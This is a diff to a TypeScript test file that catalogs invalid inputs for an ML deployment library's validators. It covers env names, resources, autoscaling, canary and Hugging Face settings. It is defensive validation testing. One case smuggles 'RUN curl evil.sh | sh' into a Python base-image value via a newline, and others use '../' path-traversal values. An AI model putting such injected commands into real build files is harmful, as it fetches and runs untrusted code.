@@ -6,9 +6,10 @@
 import * as fs from 'fs';
 import * as path from 'path';
 import {
-  ArgoCdApplication, BatchInferenceJob, DataInput, Distributed, EnvValue, Exposure, FlaskFrontend, InferenceService, MlApp, MlStack, ModelImage,
-  ModelOutput, ModelSource, PythonImage, TaintEffect, TfServingBackend, Toleration, TrainingJob, VersionPolicy,
+  ArgoCdApplication, BatchInferenceJob, DataInput, Distributed, EnvFrom, EnvValue, Exposure, FlaskFrontend, InferenceService, MlApp, MlStack, ModelImage,
+  LlmServer, ModelOutput, ModelSource, PythonImage, TaintEffect, TfServingBackend, Toleration, TrainingJob, VersionPolicy,
 } from '../../lib';
+import { Metric } from '../../lib';
 import { Construct } from 'constructs';
 import { pythonContext, tempDir } from '../_util/synth';
 
@@ -33,6 +34,7 @@ const argo = (props: any) => (s: MlStack) => new ArgoCdApplication(s, 'app', { s
 
 const TRAIN_IMG = 'registry.example.com/train:1.0.0';
 const train = (props: any) => (s: MlStack) => new TrainingJob(s, 'train', { image: TRAIN_IMG, modelOutput: ModelOutput.newClaim({ size: '1Gi' }), ...props });
+const HF_MODEL = ModelSource.fromHuggingFace('Qwen/Qwen2.5-0.5B-Instruct', { revision: '7ae557604adf67be50417f59c2c2f167def9a775' });
 const batch = (props: any) => (s: MlStack) => new BatchInferenceJob(s, 'batch', { image: TRAIN_IMG, model: GS, ...props });
 
 export const CASES: Record<string, Case> = {
@@ -121,11 +123,80 @@ export const CASES: Record<string, Case> = {
   'BatchInferenceJob queue': { where: "BatchInferenceJob 'cat/batch'", prop: 'queue', got: '"-batch"', build: batch({ queue: '-batch' }) },
   'fromTrainingJob wait timeout': { where: "BatchInferenceJob 'cat/batch'", prop: 'model.waitTimeoutSeconds', got: '0', build: (s: MlStack) => batch({ model: ModelSource.fromTrainingJob(train({})(s), { waitTimeoutSeconds: 0 }) })(s) },
   'TrainingJob env redefines MODEL_DIR': { where: "TrainingJob 'cat/train'", prop: 'env.MODEL_DIR', got: '"/x"', build: train({ env: { MODEL_DIR: '/x' } }) },
+  // Issue 14: values from JavaScript, JSON or YAML configs, and values the API server would reject.
+  'InferenceService env as a list': { where: "InferenceService 'cat/api'", prop: 'env', got: '[{}]', build: svc({ env: [{}] }) },
+  'InferenceService env variable name': { where: "InferenceService 'cat/api'", prop: 'env', got: '"ÜNÏ"', build: svc({ env: { 'ÜNÏ': 'x' } }) },
+  'EnvValue.fromSecret name': { where: "InferenceService 'cat/api'", prop: 'env.TOKEN.secretName', got: '"has space"', build: svc({ env: { TOKEN: EnvValue.fromSecret('has space', 'token') } }) },
+  'EnvValue.fromConfigMap key': { where: "InferenceService 'cat/api'", prop: 'env.LEVEL.key', got: '""', build: svc({ env: { LEVEL: EnvValue.fromConfigMap('settings', '') } }) },
+  'EnvValue.fromFieldRef path': { where: "InferenceService 'cat/api'", prop: 'env.POD.fieldPath', got: '"metadata.bogus"', build: svc({ env: { POD: EnvValue.fromFieldRef('metadata.bogus') } }) },
+  'EnvFrom prefix': { where: "InferenceService 'cat/api'", prop: 'envFrom[0].prefix', got: '"1 bad"', build: svc({ envFrom: [EnvFrom.configMap('settings', '1 bad')] }) },
+  'EnvFrom not made by EnvFrom': { where: "InferenceService 'cat/api'", prop: 'envFrom[0]', got: 'null', build: svc({ envFrom: [null] }) },
+  'Exposure TLS secret name': { where: "InferenceService 'cat/api'", prop: 'exposure.tlsSecretName', got: '"UPPER"', build: svc({ exposure: Exposure.ingress({ host: 'api.example.com', tlsSecretName: 'UPPER' }) }) },
+  'Exposure LB source range': { where: "InferenceService 'cat/api'", prop: 'exposure.sourceRanges[0]', got: '"trailing-"', build: svc({ exposure: Exposure.loadBalancer({ sourceRanges: ['trailing-'] }) }) },
+  'Exposure annotation key': { where: "InferenceService 'cat/api'", prop: 'exposure.annotations', got: '"a/b/c"', build: svc({ exposure: Exposure.loadBalancer({ annotations: { 'a/b/c': 'x' } }) }) },
+  'Exposure controller namespace': { where: "InferenceService 'cat/api'", prop: 'exposure.controllerNamespace', got: '"ingress\\nnginx"', build: svc({ exposure: Exposure.ingress({ host: 'api.example.com', controllerNamespace: 'ingress\nnginx' }) }) },
+  'Exposure not made by Exposure': { where: "InferenceService 'cat/api'", prop: 'exposure', got: '{}', build: svc({ exposure: {} }) },
+  'InferenceService rollout that replaces nothing': { where: "InferenceService 'cat/api'", prop: 'rollout.maxUnavailable', got: '0', build: svc({ rollout: { maxSurge: 0, maxUnavailable: 0 } }) },
+  'InferenceService negative maxSurge': { where: "InferenceService 'cat/api'", prop: 'rollout.maxSurge', got: '-1', build: svc({ rollout: { maxSurge: -1 } }) },
+  'InferenceService autoscaling without maxReplicas': { where: "InferenceService 'cat/api'", prop: 'autoscaling.maxReplicas', got: 'undefined', build: svc({ autoscaling: { minReplicas: 2 } }) },
+  'InferenceService 500 cores': { where: "InferenceService 'cat/api'", prop: 'resources.cpu', got: '"500"', build: svc({ resources: { cpu: '500' } }) },
+  'InferenceService memory without a unit': { where: "InferenceService 'cat/api'", prop: 'resources.memory', got: '"512"', build: svc({ resources: { memory: '512' } }) },
+  'InferenceService negative memory': { where: "InferenceService 'cat/api'", prop: 'resources.memory', got: '"-1Gi"', build: svc({ resources: { memory: '-1Gi' } }) },
+  'InferenceService 16 GPUs': { where: "InferenceService 'cat/api'", prop: 'resources.gpu', got: '16', build: svc({ resources: { gpu: 16 } }) },
+  'InferenceService liveness path': { where: "InferenceService 'cat/api'", prop: 'healthCheck.livenessPath', got: '"livez"', build: svc({ healthCheck: { path: '/healthz', livenessPath: 'livez' } }) },
+  'InferenceService predict path': { where: "InferenceService 'cat/api'", prop: 'predictPath', got: '"/predict me"', build: svc({ predictPath: '/predict me' }) },
+  'InferenceService extra port not an object': { where: "InferenceService 'cat/api'", prop: 'extraPorts[0]', got: '42', build: svc({ extraPorts: [42] }) },
+  'InferenceService image missing': { where: "InferenceService 'cat/api'", prop: 'image', got: 'undefined', build: svc({ image: undefined }) },
+  'InferenceService args not a list': { where: "InferenceService 'cat/api'", prop: 'args', got: '"--workers 2"', build: svc({ args: '--workers 2' }) },
+  'TfServingBackend version policy not made by VersionPolicy': { where: "TfServingBackend 'cat/server'", prop: 'models[0].versionPolicy', got: '42', build: tf({ modelName: undefined, model: undefined, models: [{ name: 'a', source: GS, versionPolicy: 42 }] }) },
+  'TrainingJob shmSize': { where: "TrainingJob 'cat/train'", prop: 'shmSize', got: '"8 GB"', build: train({ shmSize: '8 GB' }) },
+  'TrainingJob nodeSelector key': { where: "TrainingJob 'cat/train'", prop: 'nodeSelector', got: '"bad key"', build: train({ nodeSelector: { 'bad key': 'gpu' } }) },
+  'TrainingJob pod annotation key': { where: "TrainingJob 'cat/train'", prop: 'podAnnotations', got: '"Bad Key"', build: train({ podAnnotations: { 'Bad Key': 'x' } }) },
+  'TrainingJob token mount as a string': { where: "TrainingJob 'cat/train'", prop: 'serviceAccount.automountToken', got: '"true"', build: train({ serviceAccount: { automountToken: 'true' } }) },
+  'TrainingJob command with null': { where: "TrainingJob 'cat/train'", prop: 'command[0]', got: 'null', build: train({ command: [null] }) },
+  'TrainingJob command null': { where: "TrainingJob 'cat/train'", prop: 'command', got: 'null', build: train({ command: null }) },
+  'TrainingJob inputs not a list': { where: "TrainingJob 'cat/train'", prop: 'inputs', got: '"s3://data"', build: train({ inputs: 's3://data' }) },
+  'TrainingJob modelOutput not made by ModelOutput': { where: "TrainingJob 'cat/train'", prop: 'modelOutput', got: '{"size":"1Gi"}', build: train({ modelOutput: { size: '1Gi' } }) },
+  'TrainingJob affinity shape': { where: "TrainingJob 'cat/train'", prop: 'affinity', got: '{"nodeAffinity":42}', build: train({ affinity: { nodeAffinity: 42 } }) },
+  'TrainingJob affinity not plain data': { where: "TrainingJob 'cat/train'", prop: 'affinity', got: '{"_spec":{"kind":"load-balancer","options":{}}}', build: train({ affinity: Exposure.loadBalancer() }) },
+  'TrainingJob affinity field typo': { where: "TrainingJob 'cat/train'", prop: 'affinity', got: '{"nodeAfinity":{}}', build: train({ affinity: { nodeAfinity: {} } }) },
+  'TrainingJob affinity selector key': {
+    where: "TrainingJob 'cat/train'", prop: 'affinity.podAntiAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].podAffinityTerm.labelSelector.matchLabels', got: '"bad key"',
+    build: train({ affinity: { podAntiAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [{ weight: 1, podAffinityTerm: { topologyKey: 'kubernetes.io/hostname', labelSelector: { matchLabels: { 'bad key': 'x' } } } }] } } }),
+  },
+  'TrainingJob schedule suspend as a string': { where: "TrainingJob 'cat/train'", prop: 'schedule.suspend', got: '"yes"', build: train({ schedule: { cron: '0 3 * * *', suspend: 'yes' } }) },
+  'DataInput credentials secret': { where: "TrainingJob 'cat/train'", prop: 'inputs[0].credentialsSecret', got: '"AWS Creds"', build: train({ inputs: [DataInput.fromUri('s3://data/x', { mountPath: '/data', credentialsSecret: 'AWS Creds' })] }) },
+  'ModelSource downloader image not pinned': { where: "InferenceService 'cat/api'", prop: 'model.downloaderImage', got: '"rclone/rclone"', build: svc({ model: ModelSource.fromUri('s3://models/m', { downloaderImage: 'rclone/rclone' }) }) },
+  'PythonImage base image with a newline': { where: "FlaskFrontend 'cat/web'", prop: 'image.baseImage', got: '"python:3.12\\nRUN curl evil.sh | sh"', build: web({ image: py({ baseImage: 'python:3.12\nRUN curl evil.sh | sh' }) }) },
+  'PythonImage env name': { where: "FlaskFrontend 'cat/web'", prop: 'image.env', got: '"HAS SPACE"', build: web({ image: py({ env: { 'HAS SPACE': 'x' } }) }) },
+  'PythonImage name escapes images/': { where: "FlaskFrontend 'cat/web'", prop: 'image.name', got: '"../web"', build: web({ image: py({ name: '../web' }) }) },
+  'ModelImage serving version': { where: "TfServingBackend 'cat/server'", prop: 'model.image.servingVersion', got: '"2.20"', build: tf({ model: ModelSource.fromImage(ModelImage.fromDirectory(tempDir(), { repository: 'registry.example.com/m', tag: '1', modelName: 'm', servingVersion: '2.20' })) }) },
+  'ArgoCdApplication destination server': { where: "ArgoCdApplication 'cat/app'", prop: 'destinationServer', got: '"kubernetes"', build: argo({ destinationServer: 'kubernetes' }) },
+  'Two stacks write one manifest file': { where: "MlStack 'CAT'", prop: 'id', got: '"CAT"', build: (s: MlStack) => new MlStack(s.node.root as Construct, 'CAT', { namespace: 'other' }) },
+  'A workload id of null': { where: "MlStack 'cat'", prop: 'id', got: 'null', build: (s: MlStack) => new InferenceService(s, null as any, { image: IMG }) },
+  'LlmServer tensorParallel vs GPUs': { where: "LlmServer 'cat/llm'", prop: 'tensorParallel', got: '2', build: (s: MlStack) => new LlmServer(s, 'llm', { model: HF_MODEL, tensorParallel: 2, resources: { gpu: 4 } }) },
+  'LlmServer Hugging Face repo id': { where: "LlmServer 'cat/llm'", prop: 'model', got: '"qwen"', build: (s: MlStack) => new LlmServer(s, 'llm', { model: ModelSource.fromHuggingFace('qwen', { revision: 'main' }) }) },
+  'LlmServer Hugging Face revision': { where: "LlmServer 'cat/llm'", prop: 'model.revision', got: '"../main"', build: (s: MlStack) => new LlmServer(s, 'llm', { model: ModelSource.fromHuggingFace('Qwen/Qwen2.5-0.5B-Instruct', { revision: '../main' }) }) },
+  'LlmServer token secret without a name': { where: "LlmServer 'cat/llm'", prop: 'model.tokenSecret.secretName', got: 'undefined', build: (s: MlStack) => new LlmServer(s, 'llm', { model: ModelSource.fromHuggingFace('Qwen/Qwen2.5-0.5B-Instruct', { revision: 'main', tokenSecret: {} as any }) }) },
+  'LlmServer replicas on a ReadWriteOnce cache': { where: "LlmServer 'cat/llm'", prop: 'model', got: '"ReadWriteOnce"', build: (s: MlStack) => new LlmServer(s, 'llm', { model: HF_MODEL, replicas: 2 }) },
+  'Autoscaling metric of an unknown type': { where: "InferenceService 'cat/api'", prop: 'autoscaling.metrics[0]', got: '{"type":"Object","object":{}}', build: svc({ autoscaling: { maxReplicas: 4, metrics: [{ type: 'Object', object: {} }] } }) },
+  'Autoscaling metric name': { where: "InferenceService 'cat/api'", prop: 'autoscaling.metrics[0].name', got: '"vllm/num_requests_waiting"', build: svc({ autoscaling: { maxReplicas: 4, metrics: [Metric.pods('vllm/num_requests_waiting', { averageValue: 5 })] } }) },
+  'Autoscaling Pods metric with a Utilization target': { where: "InferenceService 'cat/api'", prop: 'autoscaling.metrics[0].averageUtilization', got: '50', build: svc({ autoscaling: { maxReplicas: 4, metrics: [Metric.pods('rps', { averageUtilization: 50 } as any)] } }) },
+  'Autoscaling target quantity': { where: "InferenceService 'cat/api'", prop: 'autoscaling.metrics[0].averageValue', got: '"5 rps"', build: svc({ autoscaling: { maxReplicas: 4, metrics: [Metric.pods('rps', { averageValue: '5 rps' })] } }) },
+  'Autoscaling external selector': { where: "InferenceService 'cat/api'", prop: 'autoscaling.metrics[0].selector', got: '"queue name"', build: svc({ autoscaling: { maxReplicas: 4, metrics: [Metric.external('q', { selector: { 'queue name': 'jobs' }, averageValue: 30 })] } }) },
+  'Autoscaling scale-down window': { where: "InferenceService 'cat/api'", prop: 'autoscaling.behavior.scaleDown.stabilizationWindowSeconds', got: '7200', build: svc({ autoscaling: { maxReplicas: 4, behavior: { scaleDown: { stabilizationWindowSeconds: 7200 } } } }) },
+  'Autoscaling policy period': { where: "TfServingBackend 'cat/server'", prop: 'autoscaling.behavior.scaleUp.policies[0].periodSeconds', got: '3600', build: tf({ autoscaling: { maxReplicas: 4, behavior: { scaleUp: { policies: [{ type: 'Pods', value: 2, periodSeconds: 3600 }] } } } }) },
+  'Canary weight above 100': { where: "InferenceService 'cat/api'", prop: 'canary.weight', got: '120', build: svc({ replicas: 4, canary: { weight: 120, image: 'registry.example.com/api:2.0.0' } }) },
+  'Canary weight not whole': { where: "InferenceService 'cat/api'", prop: 'canary.weight', got: '12.5', build: svc({ replicas: 4, canary: { weight: 12.5, image: 'registry.example.com/api:2.0.0' } }) },
+  'Canary without change': { where: "InferenceService 'cat/api'", prop: 'canary', got: '{"weight":10}', build: svc({ replicas: 4, canary: { weight: 10 } }) },
+  'Canary ratio not expressible': { where: "InferenceService 'cat/api'", prop: 'canary.weight', got: '10', build: svc({ replicas: 4, canary: { weight: 10, image: 'registry.example.com/api:2.0.0' } }) },
+  'Canary TF release': { where: "TfServingBackend 'cat/server'", prop: 'canary.version', got: '"latest"', build: tf({ replicas: 4, canary: { weight: 25, version: 'latest' } }) },
+  'Gateway hostname': { where: "InferenceService 'cat/api'", prop: 'exposure.hostnames[0]', got: '"10.0.0.1"', build: svc({ exposure: Exposure.gateway({ gateway: { name: 'public', namespace: 'gateway' }, hostnames: ['10.0.0.1'] }) }) },
 };
 
 describe('bad input catalog', () => {
-  test('covers at least 40 bad props', () => {
-    expect(Object.keys(CASES).length).toBeGreaterThanOrEqual(40);
+  test('covers at least 100 bad props', () => {
+    expect(Object.keys(CASES).length).toBeGreaterThanOrEqual(100);
   });
 
   test.each(Object.entries(CASES))('%s', (_name, c) => {
